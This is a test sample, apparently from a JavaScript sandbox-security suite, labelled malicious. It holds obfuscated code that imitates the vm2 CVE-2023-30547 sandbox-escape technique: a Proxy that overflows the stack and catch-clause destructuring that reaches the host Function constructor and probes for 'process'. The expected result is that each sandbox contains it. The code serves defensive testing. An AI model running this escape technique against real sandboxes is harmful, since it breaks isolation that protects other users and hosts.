/*---
id: re-sanitizer-throw-02-computed
description: "The CVE-2023-30547 pattern with computed keys in the catch pattern and an ownKeys trap that overflows as well, so any inspection of the thrown value hits the overflow."
kind: malicious
category: realm-escape
technique: RE-sanitizer-throw
variant: obfuscated
references:
  - "CVE-2023-30547"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
---*/
const k = 'con' + 'structor';
const boom = () => { (function r() { r(); })(); };
const thrown = new Proxy(function () {}, { getPrototypeOf: boom, ownKeys: boom, getOwnPropertyDescriptor: boom });
try { throw thrown; } catch ({ [k]: { [k]: F } }) {
  try { if (F('return typeof process')() !== 'undefined') return 'ESCAPED'; } catch (e) {}
}
return 'held';
